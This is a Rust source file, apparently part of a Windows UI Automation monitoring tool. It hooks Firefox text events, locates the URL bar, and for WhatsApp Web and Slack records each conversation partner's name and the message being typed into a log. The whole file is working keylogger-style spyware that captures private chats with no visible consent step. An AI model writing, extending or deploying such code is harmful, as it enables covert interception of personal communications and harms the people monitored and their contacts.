use std::sync::{Arc, Mutex};

use windows::core::{BSTR, VARIANT};
use windows::Win32::UI::Accessibility::{
    IUIAutomationElement, UIA_EVENT_ID, UIA_AriaRolePropertyId, UIA_AutomationIdPropertyId,
    UIA_ButtonControlTypeId, UIA_ControlTypePropertyId, UIA_Invoke_InvokedEventId,
    UIA_IsInvokePatternAvailablePropertyId, UIA_IsScrollItemPatternAvailablePropertyId,
    UIA_LegacyIAccessibleDefaultActionPropertyId, UIA_LegacyIAccessibleRolePropertyId,
    UIA_Text_TextChangedEventId, UIA_Text_TextSelectionChangedEventId,
    UIA_Window_WindowOpenedEventId,
};

use crate::ascent::SearchOutcome;
use crate::error::Result;
use crate::logger::Logger;
use crate::uia::TreeWalker;
use super::common;
use super::HandlerFn;

/// MSAA role constant for editable text, surfaced through the legacy
/// bridge on web content.
const ROLE_SYSTEM_TEXT: i32 = 42;

pub fn create_firefox_handler(logger: Arc<Mutex<Logger>>) -> HandlerFn {
    Box::new(move |walker, element, process_name, date, event_id| match event_id {
        UIA_Text_TextChangedEventId | UIA_Text_TextSelectionChangedEventId => {
            handle_text_event(walker, element, process_name, date, event_id, &logger)
        }
        UIA_Invoke_InvokedEventId | UIA_Window_WindowOpenedEventId => {
            common::handle_generic_event(walker, element, process_name, date, event_id, &logger)
        }
        _ => common::handle_generic_event(walker, element, process_name, date, event_id, &logger),
    })
}

/// Text edits in web apps fire on nodes far below the url bar; an
/// outward-expanding ascent is the only way to learn which site the text
/// belongs to.
fn handle_text_event(
    walker: &TreeWalker,
    element: &IUIAutomationElement,
    process_name: &str,
    date: &str,
    event_id: UIA_EVENT_ID,
    logger: &Arc<Mutex<Logger>>,
) -> Result<()> {
    let automation = walker.automation();
    let value = VARIANT::from(BSTR::from("urlbar-input"));
    let condition =
        unsafe { automation.CreatePropertyCondition(UIA_AutomationIdPropertyId, &value)? };

    let url_bar = match walker.find_first_ascending(element, &condition) {
        SearchOutcome::Found(url_bar) => url_bar,
        SearchOutcome::NotFound | SearchOutcome::QueryFailed(_) => {
            return common::handle_generic_event(
                walker,
                element,
                process_name,
                date,
                event_id,
                logger,
            );
        }
    };

    let url = common::element_value(&url_bar);
    match domain_of(&url) {
        "web.whatsapp.com" => handle_whatsapp(walker, element, process_name, date, logger),
        "app.slack.com" => handle_slack(element, process_name, date, logger),
        _ => common::handle_generic_event(walker, element, process_name, date, event_id, logger),
    }
}

fn handle_whatsapp(
    walker: &TreeWalker,
    element: &IUIAutomationElement,
    process_name: &str,
    date: &str,
    logger: &Arc<Mutex<Logger>>,
) -> Result<()> {
    if !is_textbox(element) {
        return Ok(());
    }

    // The chat header is the nearest invokable, scrollable button above
    // the message input; its name is the conversation partner.
    let automation = walker.automation();
    let condition = unsafe {
        let button = automation.CreatePropertyCondition(
            UIA_ControlTypePropertyId,
            &VARIANT::from(UIA_ButtonControlTypeId.0),
        )?;
        let click = automation.CreatePropertyCondition(
            UIA_LegacyIAccessibleDefaultActionPropertyId,
            &VARIANT::from(BSTR::from("click")),
        )?;
        let invoke = automation.CreatePropertyCondition(
            UIA_IsInvokePatternAvailablePropertyId,
            &VARIANT::from(true),
        )?;
        let scroll = automation.CreatePropertyCondition(
            UIA_IsScrollItemPatternAvailablePropertyId,
            &VARIANT::from(true),
        )?;

        let interactive = automation.CreateAndCondition(&button, &click)?;
        let interactive = automation.CreateAndCondition(&interactive, &invoke)?;
        automation.CreateAndCondition(&interactive, &scroll)?
    };

    let recipient = match walker.find_first_ascending(element, &condition) {
        SearchOutcome::Found(profile) => common::element_name(&profile),
        SearchOutcome::NotFound | SearchOutcome::QueryFailed(_) => return Ok(()),
    };
    let message = common::element_value(element);

    let record = format!(
        "{date} {process_name} [WhatsApp Message]\nTo: {recipient}\nMessage: {message}\n"
    );
    common::log_record(logger, &record)
}

fn handle_slack(
    element: &IUIAutomationElement,
    process_name: &str,
    date: &str,
    logger: &Arc<Mutex<Logger>>,
) -> Result<()> {
    if !is_textbox(element) {
        return Ok(());
    }

    // Slack names the composer after the open conversation.
    let recipient = common::element_name(element);
    let message = common::element_value(element);

    let record =
        format!("{date} {process_name} [Slack Message]\nTo: {recipient}\nMessage: {message}\n");
    common::log_record(logger, &record)
}

fn is_textbox(element: &IUIAutomationElement) -> bool {
    let role = unsafe { element.GetCurrentPropertyValue(UIA_LegacyIAccessibleRolePropertyId) }
        .ok()
        .and_then(|value| i32::try_from(&value).ok());
    if role != Some(ROLE_SYSTEM_TEXT) {
        return false;
    }
    common::element_property(element, UIA_AriaRolePropertyId) == "textbox"
}

fn domain_of(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    rest.split('/').next().unwrap_or(rest)
}
